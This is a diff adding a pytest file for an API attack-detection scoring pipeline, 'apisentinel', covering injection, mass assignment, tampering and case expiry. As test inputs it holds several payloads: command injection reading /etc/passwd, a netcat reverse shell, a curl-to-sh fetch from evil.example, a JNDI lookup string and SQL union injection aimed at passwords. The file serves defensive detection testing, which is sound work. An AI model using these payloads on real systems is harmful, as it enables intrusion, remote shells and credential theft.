@@ -1,0 +1,113 @@
+"""Lone odd texts, fields that nobody sends, and cases that are over."""
+
+import json
+from typing import Any
+
+import pytest
+
+from apisentinel.pipeline import ScanSettings, ScoreSession
+from apisentinel.pipeline.contents import Contents
+from apisentinel.pipeline.lone_findings import LoneFindings
+
+AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:130.0) Gecko/20100101 Firefox/130.0"
+
+
+def request(second: int, client: str, user: str, path: str, body: Any = None, **more: Any) -> str:
+    hours, rest = divmod(second, 3600)
+    fields: dict[str, Any] = {
+        "method": "POST" if body is not None else "GET", "path": path, "client_ip": client,
+        "ts": f"2026-11-02T{hours:02d}:{rest // 60:02d}:{rest % 60:02d}Z", "status": 200,
+        "user_agent": AGENT, "user_id": user,
+    }  # fmt: skip
+    if body is not None:
+        fields["request_body"] = json.dumps(body)
+    return json.dumps(fields | more)
+
+
+def scored(session: ScoreSession, lines: list[str]) -> list[dict[str, Any]]:
+    return [json.loads(line) for line in session.score("\n".join(lines).encode()).splitlines()]
+
+
+PASTED = "cat access.log | grep 500 | wc -l"
+UNION = "1' union select password from users-- "
+
+
+def test_a_pasted_text_of_a_user_waits_for_a_second_sign() -> None:
+    session = ScoreSession(ScanSettings())
+    alone, stranger = scored(
+        session,
+        [
+            request(1, "192.0.2.1", "anna", "/notes", {"text": PASTED}),
+            request(2, "192.0.2.2", "", "/notes", {"text": PASTED}),
+        ],
+    )
+    assert alone["risk"] < 40 <= stranger["risk"]
+
+
+def test_several_odd_texts_of_one_type_are_an_attack() -> None:
+    session = ScoreSession(ScanSettings())
+    texts = ["a; cat /etc/passwd", "b | nc 192.0.2.9 4444 -e /bin/sh", "$(curl evil.example|sh)"]
+    lines = [request(k, "192.0.2.1", "eve", "/notes", {"text": t}) for k, t in enumerate(texts)]
+    assert scored(session, lines)[-1]["risk"] >= 40
+
+
+def test_a_certain_attack_does_not_wait() -> None:
+    session = ScoreSession(ScanSettings())
+    body = {"text": "${jndi:ldap://192.0.2.9/a}"}
+    assert scored(session, [request(1, "192.0.2.1", "eve", "/notes", body)])[0]["risk"] >= 40
+
+
+def forms(count: int, **more: Any) -> list[str]:
+    return [
+        request(10 * k, f"10.0.{k % 200}.1", f"u{k}", "/profile", {"name": f"n{k}"} | more)
+        for k in range(count)
+    ]
+
+
+@pytest.mark.parametrize(("more", "found"), [({}, True), ({"role": "user"}, False)])
+def test_a_field_that_no_form_has_is_mass_assignment(more: dict[str, str], found: bool) -> None:
+    session = ScoreSession(ScanSettings())
+    scored(session, forms(400, **more))
+    last = scored(
+        session, [request(5_000, "192.0.2.9", "eve", "/profile", {"name": "e", "role": "admin"})]
+    )[0]
+    assert ("mass_assignment" in last["attack_types"] and last["risk"] >= 40) is found
+
+
+def test_a_negative_quantity_is_tampering() -> None:
+    session = ScoreSession(ScanSettings())
+    orders = [
+        request(10 * k, f"10.0.{k % 100}.1", f"u{k % 100}", "/orders", {"qty": 1 + k % 4})
+        for k in range(300)
+    ]
+    scored(session, orders)
+    bad = [request(4_000 + k, "192.0.2.9", "eve", "/orders", {"qty": -1 - k}) for k in range(2)]
+    last = scored(session, bad)[-1]
+    assert "parameter_tampering" in last["attack_types"]
+    assert last["risk"] >= 40
+
+
+def test_memories_survive_a_restart() -> None:
+    session = ScoreSession(ScanSettings())
+    scored(session, [*forms(40), request(900, "192.0.2.1", "anna", "/notes", {"text": PASTED})])
+    judge = session.engine.cases
+    memory = judge.memory()
+    assert memory.signs
+    fresh = LoneFindings()
+    fresh.recall(memory.signs)
+    assert fresh.memory() == memory.signs
+    contents = Contents(*(None,) * 5)  # type: ignore[arg-type]
+    contents.recall(memory.contents)
+    assert contents.memory() == memory.contents
+
+
+def test_a_case_is_over_after_a_quiet_hour() -> None:
+    session = ScoreSession(ScanSettings())
+    attack = {"query": "q=1%27%20union%20select%20password%20from%20users--%20"}
+    scored(session, [request(5, "192.0.2.9", "", "/search", **attack)])
+    scored(session, [request(5 + 3 * 3600, "192.0.2.9", "", "/search", **attack)])
+    ledger = session.engine.cases.ledger
+    assert [case.alert_ts for case in ledger.past] < [
+        case.alert_ts for case in ledger.cases.values() if case.alert_ordinal is not None
+    ]
+    assert len(ledger.past) == 1
